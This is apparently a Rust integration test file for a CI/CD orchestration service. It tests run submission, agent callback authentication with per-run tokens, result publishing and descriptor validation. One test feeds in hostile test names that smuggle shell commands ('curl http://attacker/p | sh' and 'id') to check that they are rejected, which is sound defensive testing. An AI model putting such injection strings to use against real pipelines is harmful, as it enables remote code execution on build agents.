//! Submission, agent callbacks and results publication against an
//! in-memory agent fleet.

mod common;

use std::sync::Arc;

use anyhow::{bail, Result};

use cicd_manager::agents::AgentProbe;
use cicd_manager::orchestrator::status::{StatusError, TestState};
use cicd_manager::orchestrator::OrchestrationError;
use cicd_manager::storage::{NewRun, NewRunTest, RunStore, RunTest, SqliteStore, StatusStore, TestRun};
use cicd_manager::transfer::FileTransfer;
use cicd_manager::validator::{SemanticError, StructuralErrorKind};

use common::{bandwidth_descriptor, FakeFleet, Harness, BUILD_NUMBER};

const DEVELOPER_DEFINED: &str = r#"
test_info:
  netapp_id: vOBU
  network_service_id: vOBU-ns
  testbed_id: testbed_itav
test_phases:
  setup:
    deployments: []
    testcases:
      - testcase_id: 4
        type: developer-defined
        scope: developer-defined
        name: latency_probe
        parameters:
          - key: target
            value: 10.0.0.9
  execution:
    - batch_id: 1
      scope: developer-defined
      executions:
        - execution_id: 1
          testcase_ids: [4]
"#;

const OUTPUT_XML: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<robot generator="Robot 6.0.2" generated="20240105 10:00:07.100">
<suite id="s1" name="Bandwidth">
<test id="s1-t1" name="Measure Bandwidth">
<status status="PASS" starttime="20240105 10:00:00.900" endtime="20240105 10:00:05.600"/>
</test>
<status status="PASS" starttime="20240105 10:00:00.500" endtime="20240105 10:00:06.000"/>
</suite>
<statistics>
<total>
<stat pass="1" fail="0" skip="0">All Tests</stat>
</total>
</statistics>
</robot>
"#;

/// Run store whose executed-test inserts always fail.
struct BrokenRunTests(SqliteStore);

impl RunStore for BrokenRunTests {
    fn create_run(&self, run: &NewRun) -> Result<TestRun> {
        self.0.create_run(run)
    }
    fn get_run(&self, run_id: i64) -> Result<Option<TestRun>> {
        self.0.get_run(run_id)
    }
    fn set_run_agent(&self, run_id: i64, agent_id: i64) -> Result<()> {
        self.0.set_run_agent(run_id, agent_id)
    }
    fn set_communication_token(&self, run_id: i64, token: &str) -> Result<()> {
        self.0.set_communication_token(run_id, token)
    }
    fn set_job(&self, run_id: i64, job_name: &str, build_number: Option<u64>) -> Result<()> {
        self.0.set_job(run_id, job_name, build_number)
    }
    fn set_result_locations(&self, run_id: i64, log_location: &str, results_location: &str) -> Result<()> {
        self.0.set_result_locations(run_id, log_location, results_location)
    }
    fn add_run_test(&self, _run_id: i64, _test: &NewRunTest) -> Result<RunTest> {
        bail!("disk I/O error")
    }
    fn list_run_tests(&self, run_id: i64) -> Result<Vec<RunTest>> {
        self.0.list_run_tests(run_id)
    }
    fn record_test_result(
        &self,
        run_test_id: i64,
        success: bool,
        started_at: Option<&str>,
        ended_at: Option<&str>,
    ) -> Result<()> {
        self.0.record_test_result(run_test_id, success, started_at, ended_at)
    }
}

fn log(h: &Harness, run_id: i64) -> Vec<(TestState, bool)> {
    h.store
        .list_status(run_id)
        .unwrap()
        .into_iter()
        .map(|e| (e.state, e.success))
        .collect()
}

#[tokio::test]
async fn test_successful_submission() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let receipt = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();

    assert_eq!(receipt.run_id, 1);
    assert_eq!(receipt.testbed_id, "testbed_itav");
    assert_eq!(receipt.job_name, "vOBU-vOBU-ns-1");
    assert_eq!(receipt.build_number, BUILD_NUMBER);
    assert!(!receipt.access_token.is_empty());

    assert_eq!(
        log(&h, receipt.run_id),
        vec![
            (TestState::SubmittedToCiCdManager, true),
            (TestState::AuthenticatedOnCiCdAgent, true),
            (TestState::CreatedCommunicationTokenOnCiCdAgent, true),
            (TestState::CreatedPipelineScript, true),
            (TestState::SubmittedPipelineScript, true),
        ]
    );

    let credentials = h.fleet.credentials.lock().unwrap().clone();
    assert_eq!(credentials.len(), 1);
    assert_eq!(credentials[0].1, "communication_token_1");
    assert_eq!(credentials[0].2.len(), 32);

    let script = h.fleet.last_script();
    assert!(script.contains("bandwidth_host1_ip=10.0.12.96"));
    assert!(script.contains("bandwidth-test-id-1"));
    assert!(script.contains("test_id = 1"));
    assert!(script.contains("credentials('communication_token_1')"));

    let run = h.store.get_run(receipt.run_id).unwrap().unwrap();
    assert_eq!(run.agent_id, Some(1));
    assert_eq!(run.job_name.as_deref(), Some("vOBU-vOBU-ns-1"));
    assert_eq!(run.build_number, Some(BUILD_NUMBER));
    assert_eq!(run.communication_token.as_deref(), Some(credentials[0].2.as_str()));

    let tests = h.store.list_run_tests(receipt.run_id).unwrap();
    assert_eq!(tests.len(), 1);
    assert_eq!(tests[0].full_name, "bandwidth-test-id-1");
}

#[tokio::test]
async fn test_least_loaded_agent_is_used() {
    let mut fleet = FakeFleet::default();
    fleet.add(1, AgentProbe::unreachable());
    fleet.add(2, AgentProbe { reachable: true, active_jobs: 4 });
    fleet.add(3, AgentProbe { reachable: true, active_jobs: 1 });
    let h = Harness::new(fleet);

    h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();
    assert_eq!(h.fleet.jobs.lock().unwrap()[0].0, 3);
}

#[tokio::test]
async fn test_no_agent_available() {
    let mut fleet = FakeFleet::default();
    fleet.add(1, AgentProbe::unreachable());
    let h = Harness::new(fleet);

    let err = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::NoAgentAvailable { .. }));
    assert_eq!(
        log(&h, 1),
        vec![
            (TestState::SubmittedToCiCdManager, true),
            (TestState::AuthenticatedOnCiCdAgent, false),
        ]
    );
}

#[tokio::test]
async fn test_credential_failure_is_logged() {
    let mut fleet = FakeFleet::with_agent(1);
    fleet.fail_credentials = true;
    let h = Harness::new(fleet);

    let err = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::CredentialProvisioning(_)));
    assert_eq!(
        log(&h, 1).last(),
        Some(&(TestState::CreatedCommunicationTokenOnCiCdAgent, false))
    );
}

#[tokio::test]
async fn test_submission_failure_is_logged() {
    let mut fleet = FakeFleet::with_agent(1);
    fleet.fail_submission = true;
    let h = Harness::new(fleet);

    let err = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::PipelineSubmission(_)));
    let log = log(&h, 1);
    assert_eq!(log.len(), 5);
    assert_eq!(log[3], (TestState::CreatedPipelineScript, true));
    assert_eq!(log[4], (TestState::SubmittedPipelineScript, false));
}

#[tokio::test]
async fn test_rejected_descriptors_create_no_run() {
    let h = Harness::new(FakeFleet::with_agent(1));

    let err = h.orchestrator.submit("test_info: [").await.unwrap_err();
    assert!(matches!(err, OrchestrationError::Structural(_)));

    let missing_host = bandwidth_descriptor().replace("key: host1_ip", "key: host9_ip");
    match h.orchestrator.submit(&missing_host).await.unwrap_err() {
        OrchestrationError::Semantic(errors) => {
            assert_eq!(errors.len(), 1);
            assert!(errors[0].to_string().contains("host1_ip"));
        }
        other => panic!("unexpected error: {other}"),
    }

    let other_testbed = bandwidth_descriptor().replace("testbed_id: testbed_itav", "testbed_id: nowhere");
    let err = h.orchestrator.submit(&other_testbed).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::TestbedNotFound(t) if t == "nowhere"));

    let bad_metrics = bandwidth_descriptor().replace("key: host_ip", "key: hostname");
    let err = h.orchestrator.submit(&bad_metrics).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::MetricsContract));

    assert!(h.store.list_runs().unwrap().is_empty());
}

#[tokio::test]
async fn test_developer_defined_artifact_round_trip() {
    let h = Harness::new(FakeFleet::with_agent(1));

    let err = h.orchestrator.submit(DEVELOPER_DEFINED).await.unwrap_err();
    assert!(matches!(
        err,
        OrchestrationError::MissingDeveloperDefinedArtifact { ref test } if test == "latency_probe"
    ));

    let path = h
        .orchestrator
        .upload_developer_defined("vOBU", "latency_probe", b"tarball")
        .await
        .unwrap();
    assert_eq!(path, "developer-defined-tests/vOBU/latency_probe.tar.gz");

    let receipt = h.orchestrator.submit(DEVELOPER_DEFINED).await.unwrap();
    let token = h.fleet.token();
    let archive = h
        .orchestrator
        .developer_defined_test(receipt.run_id, &token, "dev-defined-latency_probe-test-id-4")
        .await
        .unwrap();
    assert_eq!(archive, b"tarball");

    let err = h
        .orchestrator
        .developer_defined_test(receipt.run_id, "wrong", "dev-defined-latency_probe-test-id-4")
        .await
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::Unauthorized(_)));

    let err = h
        .orchestrator
        .developer_defined_test(receipt.run_id, &token, "bandwidth-test-id-1")
        .await
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::MissingDeveloperDefinedArtifact { .. }));
}

#[tokio::test]
async fn test_agent_callbacks() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let receipt = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();
    let run_id = receipt.run_id;
    let token = h.fleet.token();

    let entry = h
        .orchestrator
        .record_agent_status(run_id, &token, TestState::EnvironmentSetupCiCdAgent, true)
        .unwrap();
    assert_eq!(entry.seq, 5);

    // Retried callback.
    let again = h
        .orchestrator
        .record_agent_status(run_id, &token, TestState::EnvironmentSetupCiCdAgent, true)
        .unwrap();
    assert_eq!(again.seq, 5);

    let err = h
        .orchestrator
        .record_agent_status(run_id, "not-the-token", TestState::StartedMonitoring, true)
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::Unauthorized(_)));

    let err = h
        .orchestrator
        .record_agent_status(run_id, &token, TestState::CreatedPipelineScript, true)
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::Status(StatusError::NotAgentReported(_))));

    h.orchestrator
        .record_agent_status(run_id, &token, TestState::PerformedTestsOnCiCdAgent, false)
        .unwrap();
    let err = h
        .orchestrator
        .record_agent_status(run_id, &token, TestState::ObtainedTestsOnCiCdAgent, true)
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::Status(StatusError::NotForward { .. })));

    let err = h
        .orchestrator
        .record_agent_status(999, &token, TestState::TestEnded, true)
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::RunNotFound(999)));

    assert_eq!(log(&h, run_id).len(), 7);
}

#[tokio::test]
async fn test_publish_results() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let receipt = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();
    let token = h.fleet.token();

    h.warehouse
        .upload(
            &format!("{}/bandwidth-test-id-1/output.xml", receipt.job_name),
            OUTPUT_XML.as_bytes(),
        )
        .await
        .unwrap();

    let tests = h
        .orchestrator
        .publish_results(receipt.run_id, &token, &receipt.job_name)
        .await
        .unwrap();
    assert_eq!(tests.len(), 1);
    assert_eq!(tests[0].success, Some(true));
    assert_eq!(tests[0].started_at.as_deref(), Some("2024-01-05 10:00:00.500"));
    assert_eq!(tests[0].ended_at.as_deref(), Some("2024-01-05 10:00:06"));

    let log_path = format!("{}/console_log.log", receipt.job_name);
    let console = h.warehouse.download(&log_path).await.unwrap();
    assert!(String::from_utf8(console).unwrap().contains("vOBU-vOBU-ns-1 #7"));

    let report = h
        .orchestrator
        .report(receipt.run_id, &receipt.access_token)
        .unwrap();
    assert_eq!(report.run.log_location.as_deref(), Some(log_path.as_str()));
    assert_eq!(report.run.results_location.as_deref(), Some("vOBU-vOBU-ns-1"));
    assert_eq!(report.status.len(), 5);

    let err = h.orchestrator.report(receipt.run_id, "guess").unwrap_err();
    assert!(matches!(err, OrchestrationError::Unauthorized(_)));
}

#[tokio::test]
async fn test_publish_without_output_marks_test_failed() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let receipt = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();
    let token = h.fleet.token();

    let tests = h
        .orchestrator
        .publish_results(receipt.run_id, &token, &receipt.job_name)
        .await
        .unwrap();
    assert_eq!(tests[0].success, Some(false));
    assert!(tests[0].started_at.is_none());
}

#[tokio::test]
async fn test_storage_failure_after_run_creation_is_logged() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let orchestrator = h.with_runs(Arc::new(BrokenRunTests(h.store.clone())));

    let err = orchestrator.submit(&bandwidth_descriptor()).await.unwrap_err();
    assert!(matches!(err, OrchestrationError::Storage(_)));
    assert_eq!(
        log(&h, 1),
        vec![
            (TestState::SubmittedToCiCdManager, true),
            (TestState::AuthenticatedOnCiCdAgent, true),
            (TestState::CreatedCommunicationTokenOnCiCdAgent, true),
            (TestState::CreatedPipelineScript, false),
        ]
    );
    assert!(h.fleet.jobs.lock().unwrap().is_empty());
}

#[tokio::test]
async fn test_duplicate_testcase_ids_create_no_run() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let duplicated = DEVELOPER_DEFINED.replace(
        "  execution:\n",
        "      - testcase_id: 4\n        type: developer-defined\n        scope: developer-defined\n        name: latency_probe\n  execution:\n",
    );
    h.orchestrator
        .upload_developer_defined("vOBU", "latency_probe", b"tarball")
        .await
        .unwrap();

    match h.orchestrator.submit(&duplicated).await.unwrap_err() {
        OrchestrationError::Semantic(errors) => {
            assert_eq!(errors, vec![SemanticError::DuplicateTestcase { testcase_id: 4 }]);
        }
        other => panic!("unexpected error: {other}"),
    }
    assert!(h.store.list_runs().unwrap().is_empty());
}

#[tokio::test]
async fn test_shell_metacharacters_in_test_names_are_rejected() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let hostile = DEVELOPER_DEFINED.replace(
        "name: latency_probe",
        "name: \"x; curl http://attacker/p | sh; #\"",
    );

    match h.orchestrator.submit(&hostile).await.unwrap_err() {
        OrchestrationError::Structural(errors) => {
            assert_eq!(errors.len(), 1);
            assert_eq!(errors[0].path, "test_phases.setup.testcases[0].name");
            assert!(matches!(errors[0].kind, StructuralErrorKind::Mismatch { .. }));
        }
        other => panic!("unexpected error: {other}"),
    }
    assert!(h.store.list_runs().unwrap().is_empty());
    assert!(h.fleet.jobs.lock().unwrap().is_empty());

    let err = h
        .orchestrator
        .upload_developer_defined("vOBU", "x; id", b"tarball")
        .await
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::InvalidTestName(_)));
}

#[tokio::test]
async fn test_concurrent_runs_keep_their_own_tokens() {
    let h = Harness::new(FakeFleet::with_agent(1));
    let first = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();
    let second = h.orchestrator.submit(&bandwidth_descriptor()).await.unwrap();

    let first_token = h.fleet.token_for(first.run_id);
    let second_token = h.fleet.token_for(second.run_id);
    assert_ne!(first_token, second_token);

    let jobs = h.fleet.jobs.lock().unwrap().clone();
    assert!(jobs[0].2.contains("credentials('communication_token_1')"));
    assert!(jobs[1].2.contains("credentials('communication_token_2')"));

    // The first run keeps reporting after the second one was provisioned.
    h.orchestrator
        .record_agent_status(first.run_id, &first_token, TestState::EnvironmentSetupCiCdAgent, true)
        .unwrap();
    h.orchestrator
        .record_agent_status(second.run_id, &second_token, TestState::EnvironmentSetupCiCdAgent, true)
        .unwrap();
    let err = h
        .orchestrator
        .record_agent_status(first.run_id, &second_token, TestState::StartedMonitoring, true)
        .unwrap_err();
    assert!(matches!(err, OrchestrationError::Unauthorized(_)));
}
